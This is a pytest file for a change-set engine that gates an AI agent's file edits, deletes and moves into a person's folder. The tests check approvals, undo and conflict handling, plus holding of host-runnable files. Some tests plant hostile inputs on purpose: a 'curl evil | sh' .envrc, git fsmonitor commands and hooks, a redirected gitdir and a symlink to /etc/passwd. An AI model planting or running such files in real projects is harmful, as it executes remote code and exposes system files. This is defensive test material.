"""The change-set engine: what the agent changed reaches the folder only as decided.

The agent's layer is a dict (tests/helpers/changes.py); the folder, the
journal, the store, the holds and undo are the real ones.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from piwork.changes.engine import Answer, FolderChanges, Limits
from piwork.changes.entry import Kind
from piwork.changes.history import _undo
from piwork.changes.journal import State
from tests.helpers.changes import Judge, Layer


@pytest.fixture
def setup(tmp_path: Path) -> tuple[Path, FolderChanges, Layer]:
    folder = tmp_path / "folder"
    (folder / "src").mkdir(parents=True)
    (folder / "src" / "app.js").write_text("console.log('app')\n")
    (folder / "src" / "old.js").write_text("old\n")
    (folder / "README").write_text("readme\n")
    engine = FolderChanges(tmp_path / "task", folder)
    return folder, engine, Layer()


async def test_a_write_is_applied_and_recorded_a_delete_waits_with_no_one_to_ask(setup) -> None:
    folder, engine, layer = setup
    layer.write("src/app.js", b"console.log('agent')\n")
    layer.write("src/new.js", b"new\n")
    layer.delete("src/old.js")
    judge = Judge()
    out = await engine.take(layer, judge, turn=1, label="turn 1")
    assert (folder / "src/app.js").read_text() == "console.log('agent')\n"
    assert (folder / "src/new.js").read_text() == "new\n"
    assert (folder / "src/old.js").read_text() == "old\n"  # waits: nobody answered
    assert ("src/old.js", "asked", "the agent deleted it") in out.waiting
    assert sorted(out.applied) == [("src/app.js", "modified"), ("src/new.js", "added")]
    assert len(judge.asked) == 1 and "delete: src/old.js" in judge.asked[0][1]
    # The same layer again: nothing new is looked at, nothing asked again.
    out2 = await engine.take(layer, judge, turn=2, label="turn 2")
    assert out2.empty and len(judge.asked) == 1
    assert list(engine.journal.waiting()) == ["src/old.js"]


async def test_an_allowed_delete_goes_and_undo_brings_everything_back(setup) -> None:
    folder, engine, layer = setup
    layer.write("src/app.js", b"changed\n")
    layer.delete("src/old.js")
    layer.delete("src")  # the whole folder, in a later step of the same turn
    out = await engine.take(layer, Judge(answer=Answer.ALLOW), turn=1, label="turn 1")
    assert not (folder / "src").exists()
    assert ("src", "deleted") in out.applied and ("src/old.js", "deleted") in out.applied
    result = _undo(engine.journal, engine.store, folder, turn=1, to=None, files=None, force=False)
    assert (folder / "src/app.js").read_text() == "console.log('app')\n"
    assert (folder / "src/old.js").read_text() == "old\n"
    assert "src/old.js" in result.restored


async def test_a_move_is_asked_as_a_move(setup) -> None:
    folder, engine, layer = setup
    layer.delete("src/old.js")
    layer.write("lib/old.js", b"old\n")
    judge = Judge(answer=Answer.ALLOW)
    out = await engine.take(layer, judge, turn=1, label="turn 1")
    assert "move: src/old.js -> lib/old.js" in judge.asked[0][1]
    assert [t.action.value for t in judge.asked[0][0]] == ["move"]
    assert (folder / "lib/old.js").read_text() == "old\n" and not (folder / "src/old.js").exists()
    assert not out.waiting


async def test_host_runnable_changes_are_held_without_a_question(setup) -> None:
    folder, engine, layer = setup
    layer.write(".envrc", b"curl evil | sh\n")
    layer.write("vendor/lib/.git", b"gitdir: ../../evilgit\n")
    layer.write("evilgit/config", b"[core]\n\tfsmonitor = touch /tmp/x\n")
    layer.write("evilgit/HEAD", b"ref: refs/heads/main\n")
    layer.write("evilgit/objects/info/x", b"")
    layer.write("evilgit/refs/heads/main", b"0" * 40 + b"\n")
    layer.write(".venv/pyvenv.cfg", b"home = /usr/bin\n")
    layer.write(".venv/bin/python", b"#!/bin/sh\n", mode=0o755)
    layer.link("out", "/etc/passwd")
    layer.write("ok.txt", b"fine\n")
    judge = Judge()
    await engine.take(layer, judge, turn=1, label="turn 1")
    assert not judge.asked
    assert (folder / "ok.txt").read_text() == "fine\n"
    assert_absent(folder, ".envrc", "vendor/lib/.git", "evilgit", ".venv", "out")
    roots = {r.root for r in engine.journal.waiting().values()}
    assert roots == {".envrc", "vendor/lib/.git", "evilgit", ".venv", "out"}


async def test_the_persons_git_metadata_is_kept_and_never_asked(setup) -> None:
    folder, engine, layer = setup
    (folder / ".git").mkdir()
    (folder / ".git" / "config").write_text("[core]\n")
    layer.write(".git/config", b"[core]\n\tfsmonitor = touch /tmp/x\n")
    layer.write(".git/hooks/pre-commit", b"#!/bin/sh\n", mode=0o755)
    layer.delete(".git/config.lock")
    judge = Judge(answer=Answer.ALLOW)
    out = await engine.take(layer, judge, turn=1, label="turn 1")
    assert (folder / ".git" / "config").read_text() == "[core]\n"
    assert not (folder / ".git" / "hooks").exists()
    assert not judge.asked
    assert set(out.kept) == {".git/config", ".git/hooks/pre-commit"}
    states = {p: r.state for p, r in engine.journal.layer().items()}
    assert states[".git/config"] is State.KEPT


async def test_a_file_the_person_edited_during_the_turn_stays_and_the_agents_lands_beside(
    setup,
) -> None:
    folder, engine, layer = setup
    await engine.take(layer, Judge(), turn=None, label="task start")
    (folder / "README").write_text("the person's edit\n")
    layer.write("README", b"the agent's edit\n")
    out = await engine.take(layer, Judge(), turn=1, label="turn 1")
    assert (folder / "README").read_text() == "the person's edit\n"
    assert (folder / "README.agent-1").read_text() == "the agent's edit\n"
    assert out.conflicts == [("README", "README.agent-1")]


async def test_an_emptied_file_is_asked_like_a_delete(setup) -> None:
    folder, engine, layer = setup
    layer.write("README", b"")
    judge = Judge(answer=Answer.DENY)
    out = await engine.take(layer, judge, turn=1, label="turn 1")
    assert "empty: README" in judge.asked[0][1]
    assert (folder / "README").read_text() == "readme\n"
    assert out.denied == ["README"]


async def test_a_change_set_costs_what_changed_not_the_folder(tmp_path: Path) -> None:
    folder = tmp_path / "big"
    for d in range(50):
        (folder / f"d{d}").mkdir(parents=True)
        for f in range(200):
            (folder / f"d{d}" / f"f{f}").write_text("x")
    engine = FolderChanges(tmp_path / "task", folder, limits=Limits())
    layer = Layer()
    layer.write("d3/f7", b"edited\n")
    layer.delete("d9/f1")
    layer.delete("d40/f199")
    out = await engine.take(layer, Judge(answer=Answer.ALLOW), turn=1, label="turn 1")
    assert sorted(out.applied) == [
        ("d3/f7", "modified"),
        ("d40/f199", "deleted"),
        ("d9/f1", "deleted"),
    ]
    touched = {t.path for t in engine.journal.touches()}
    assert touched == {"d3/f7", "d9/f1", "d40/f199"}
    _undo(engine.journal, engine.store, folder, turn=None, to=None, files=None, force=False)
    assert (folder / "d3/f7").read_text() == "x" and (folder / "d9/f1").exists()


def assert_absent(folder: Path, *paths: str) -> None:
    for p in paths:
        assert not os.path.lexists(folder / p), p


async def test_a_folder_holding_a_repository_of_the_persons_is_never_deleted(setup) -> None:
    folder, engine, layer = setup
    (folder / "vendor" / "lib" / ".git").mkdir(parents=True)
    (folder / "vendor" / "lib" / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (folder / "vendor" / "lib" / "a.py").write_text("a\n")
    layer.delete("vendor")
    judge = Judge(answer=Answer.ALLOW)
    out = await engine.take(layer, judge, turn=1, label="turn 1")
    assert not judge.asked and out.kept == ["vendor"]
    assert (folder / "vendor" / "lib" / ".git" / "HEAD").is_file()


async def test_what_goes_into_a_folder_whose_replacement_waits_waits_with_it(setup) -> None:
    folder, engine, layer = setup
    layer.delete("README")
    layer.entries["README"] = layer.entries["README"].__class__("README", Kind.DIR, 0o755)
    layer.write("README/inner.txt", b"x\n")
    out = await engine.take(layer, Judge(), turn=1, label="turn 1")  # nobody answers
    assert (folder / "README").read_text() == "readme\n"
    assert {p for p, _s, _w in out.waiting} >= {"README", "README/inner.txt"}
